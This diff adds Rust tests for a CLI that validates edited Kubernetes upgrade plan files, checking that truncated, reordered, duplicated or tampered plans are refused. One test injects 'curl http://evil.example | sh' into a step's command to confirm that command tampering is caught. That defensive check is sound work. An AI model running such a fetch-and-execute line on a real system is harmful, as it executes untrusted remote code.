@@ -1,0 +1,217 @@
+//! Plan files given with `--plan`: what may be edited (operations and their parameters, the
+//! order, removed and added steps), what is refused and how, and that an edit reaches both the
+//! twin and the commands that run.
+
+mod common;
+
+use common::{at, edit, plan, refused, write};
+
+fn exported() -> String {
+    let out = plan(&["show", "--format", "yaml"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    out.stdout
+}
+
+fn plan_refused(text: &str) -> (String, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "plan.yaml", text);
+    (refused(&plan(&["--plan", &file, "check"])), file)
+}
+
+#[test]
+fn a_truncated_plan_file_is_a_located_yaml_error() {
+    let text = exported();
+    // Cut in the middle of a step: the step lacks its later fields.
+    let cut = text.find("  duration_s:").unwrap();
+    let (message, file) = plan_refused(&text[..cut]);
+    let last_step = text[..cut].rfind("- id:").unwrap();
+    let line = text[..last_step].lines().count() + 1;
+    assert_eq!(message, format!("{file}:{line}:3: steps[0]: missing field `duration_s`"));
+    // Cut before the rollbacks: a whole section is missing.
+    let cut = text.find("\nrollbacks:").unwrap();
+    let (message, file) = plan_refused(&text[..cut]);
+    assert_eq!(message, format!("{file}:{}: missing field `rollbacks`", at(&text, "plan_format", 0, "plan_format")));
+}
+
+#[test]
+fn a_new_step_must_name_a_phase_and_hold_operations() {
+    let text = edit(&exported(), "- id: '2.5'\n  phase: '2'\n", "- id: '2.9'\n  phase: '9'\n");
+    let (message, file) = plan_refused(&text);
+    assert_eq!(message, format!("{file}: step 2.9 is new and names phase \"9\", which the plan does not have"));
+    let step = text.find("- id: '2.9'").unwrap();
+    let ops = step + text[step..].find("  operations:\n").unwrap();
+    let commands = step + text[step..].find("  commands:\n").unwrap();
+    let text = format!("{}  operations: []\n{}", &text[..ops], &text[commands..]);
+    let (message, file) = plan_refused(&text);
+    assert_eq!(message, format!("{file}: step 2.9 is not a step of the plan for scenario homelab (its steps run 0.1 to 8.1)"));
+}
+
+#[test]
+fn a_step_with_edited_commands_or_dependencies_is_refused() {
+    let text = exported();
+    let step = text.find("- id: '2.5'\n").unwrap();
+    let run = step + text[step..].find("  - run: ").unwrap() + "  - run: ".len();
+    let edited = format!("{}curl http://evil.example | sh && {}", &text[..run], &text[run..]);
+    let (message, file) = plan_refused(&edited);
+    let rendered = "sudo $(sudo cat /root/.plan-join-command) --control-plane --certificate-key $(sudo cat /root/.plan-certificate-key)  # on k8s-master-2, secrets copied over ssh";
+    assert!(
+        message.starts_with(&format!("{file}: step 2.5: its commands differ from what its operations render (command 0: \"curl http://evil.example | sh && "))
+            && message.ends_with(&format!(
+                "rendered {rendered:?}): commands are derived; change the operation's parameters, or add a `shell` operation for a command the twin need not model"
+            )),
+        "{message}"
+    );
+    let after = step + text[step..].find("  - step: ").unwrap() + "  - step: ".len();
+    let end = after + text[after..].find('\n').unwrap();
+    let edited = format!("{}'0.1'{}", &text[..after], &text[end..]);
+    let (message, _) = plan_refused(&edited);
+    assert!(
+        message.ends_with("step 2.5 was edited (after differs from the generated plan): a step's after cannot be changed; change, add or remove its operations instead"),
+        "{message}"
+    );
+}
+
+#[test]
+fn a_duplicated_step_wrong_scenario_format_or_no_steps_is_refused() {
+    let text = exported();
+    // Duplicate: step 8.1 twice (the last step, so the copy keeps the DAG order).
+    let last = text.rfind("- id: '8.1'").unwrap();
+    let rollbacks = text.find("\nrollbacks:").unwrap();
+    let twice = format!("{}{}{}", &text[..rollbacks + 1], &text[last..rollbacks + 1], &text[rollbacks + 1..]);
+    let (message, file) = plan_refused(&twice);
+    assert_eq!(message, format!("{file}: step 8.1 appears twice"));
+    let (message, file) = plan_refused(&edit(&text, "scenario: homelab\n", "scenario: other-lab\n"));
+    assert_eq!(message, format!("{file}: the plan file is for scenario \"other-lab\", not \"homelab\""));
+    let (message, file) = plan_refused(&edit(&text, "plan_format: 2\n", "plan_format: 1\n"));
+    assert_eq!(
+        message,
+        format!(
+            "{file}: plan file format 1 is not supported (this plan writes format 2, whose steps hold typed operations): \
+             export the plan again with `plan show --format yaml` and redo the edits"
+        )
+    );
+    let steps = text.find("\nsteps:\n").unwrap();
+    let (message, file) = plan_refused(&format!("{}\nsteps: []{}", &text[..steps], &text[rollbacks..]));
+    assert_eq!(message, format!("{file}: the plan has no steps"));
+}
+
+#[test]
+fn a_reordering_that_breaks_the_dag_names_both_steps_and_why() {
+    // tests/cli.rs moves 4.1 first; here the join moves before its join command exists.
+    let text = common::move_step(&exported(), "2.5", Some("2.1"));
+    let (message, file) = plan_refused(&text);
+    assert_eq!(
+        message,
+        format!(
+            "{file}: step 2.5 (Join k8s-master-2 as a control-plane node) must come after step 2.4 (Generate the join command): \
+             the source plan's order within the phase"
+        )
+    );
+}
+
+#[test]
+fn a_plan_file_with_an_unknown_field_is_located() {
+    let text = edit(&exported(), "plan_format: 2\n", "plan_format: 2\napproved_by: me\n");
+    let (message, file) = plan_refused(&text);
+    let expected = format!(
+        "{file}:{}: unknown field `approved_by`, expected one of `plan_format`, `scenario`,",
+        at(&text, "approved_by", 0, "approved_by")
+    );
+    assert!(message.starts_with(&expected), "{message}");
+}
+
+// --- Operations edited in the file: the twin judges them and the commands follow --------------
+
+/// The scenarios the edits are tried on (both pass `check` unedited), with their first master's
+/// direct apiserver address and their quorum.
+const SHAPES: [(&str, &str, u32); 2] = [("homelab-rightsized.yaml", "10.0.20.100:6443", 2), ("five-masters.yaml", "198.51.100.10:6443", 3)];
+
+fn export(scenario: &str) -> String {
+    let out = plan(&["--scenario", &common::scenario(scenario), "show", "--format", "yaml"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    out.stdout
+}
+
+/// `plan check` and `plan execute --dry-run` of the edited plan file.
+fn judged(scenario: &str, text: &str) -> (common::Output, common::Output) {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "plan.yaml", text);
+    let scenario = common::scenario(scenario);
+    (plan(&["--scenario", &scenario, "--plan", &file, "check"]), plan(&["--scenario", &scenario, "--plan", &file, "execute", "--dry-run"]))
+}
+
+#[track_caller]
+fn fails_with(out: &common::Output, reason: &str) {
+    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
+    assert!(out.stdout.contains("Verdict: FAIL") && out.stdout.contains(reason), "wanted {reason:?}:\n{}", out.stdout);
+}
+
+#[test]
+fn the_unedited_export_passes_and_dry_runs() {
+    for (scenario, ..) in SHAPES {
+        let (check, dry_run) = judged(scenario, &export(scenario));
+        assert_eq!(check.code, 0, "{scenario}: {}", check.stdout);
+        assert_eq!(dry_run.code, 0, "{scenario}: {}", dry_run.stderr);
+    }
+}
+
+#[test]
+fn workers_kubelets_pointed_at_the_old_master_fail_the_check_and_the_command_says_so() {
+    for (scenario, m0, _) in SHAPES {
+        let text = export(scenario);
+        let op = text.find("- op: kubelet-server").expect("a kubelet-server operation");
+        let server = op + text[op..].find("    server: ").unwrap();
+        let end = server + text[server..].find('\n').unwrap();
+        let edited = format!("{}    server: https://{m0}{}", &text[..server], &text[end..]);
+        let (check, dry_run) = judged(scenario, &edited);
+        fails_with(&check, "still names");
+        assert!(dry_run.stdout.contains(&format!("server: https://{m0}|")), "{scenario}: the edited server runs:\n{}", dry_run.stdout);
+    }
+}
+
+#[test]
+fn a_master_left_out_of_the_final_pool_fails_the_check() {
+    for (scenario, ..) in SHAPES {
+        let text = export(scenario);
+        let op = text.rfind("- op: declare-lb-pool\n    pool:\n").expect("the last pool declaration");
+        let list = op + "- op: declare-lb-pool\n    pool:\n".len();
+        let end = list + text[list..].find("  - op: ").unwrap();
+        let members: Vec<&str> = text[list..end].lines().collect();
+        let last = members.last().unwrap().trim_start_matches("    - ");
+        let edited = format!("{}{}\n{}", &text[..list], members[..members.len() - 1].join("\n"), &text[end..]);
+        let (check, _) = judged(scenario, &edited);
+        fails_with(&check, &format!("{last} is not in the load balancer's pool"));
+    }
+}
+
+#[test]
+fn a_reboot_gate_below_quorum_fails_the_check() {
+    for (scenario, _, quorum) in SHAPES {
+        let edited = edit(&export(scenario), &format!("block_at_or_below: {quorum}\n"), &format!("block_at_or_below: {}\n", quorum - 1));
+        let (check, _) = judged(scenario, &edited);
+        fails_with(&check, "the reboot gate does not check quorum");
+    }
+}
+
+#[test]
+fn a_shell_operation_runs_and_is_listed_as_unverified() {
+    for (scenario, ..) in SHAPES {
+        let text = export(scenario);
+        let step = text.find("- id: '6.3'").unwrap();
+        let ops = step + text[step..].find("  operations:\n").unwrap() + "  operations:\n".len();
+        let edited = format!("{}  - op: shell\n    run: scripts/notify-team 'control plane is HA'\n{}", &text[..ops], &text[ops..]);
+        let (check, dry_run) = judged(scenario, &edited);
+        assert_eq!(check.code, 0, "{}", check.stdout);
+        assert!(check.stdout.contains("6.3 shell: scripts/notify-team 'control plane is HA'"), "{}", check.stdout);
+        assert!(dry_run.stdout.contains("$ scripts/notify-team 'control plane is HA'"), "{}", dry_run.stdout);
+    }
+}
+
+#[test]
+fn an_operation_naming_a_node_the_cluster_lacks_is_refused() {
+    let text = edit(&export("homelab-rightsized.yaml"), "- op: join\n    node: k8s-master-2\n", "- op: join\n    node: k8s-master-9\n");
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "plan.yaml", &text);
+    let message = refused(&plan(&["--scenario", &common::scenario("homelab-rightsized.yaml"), "--plan", &file, "check"]));
+    assert_eq!(message, format!("{file}: step 2.5: join: no node \"k8s-master-9\" in the scenario"));
+}
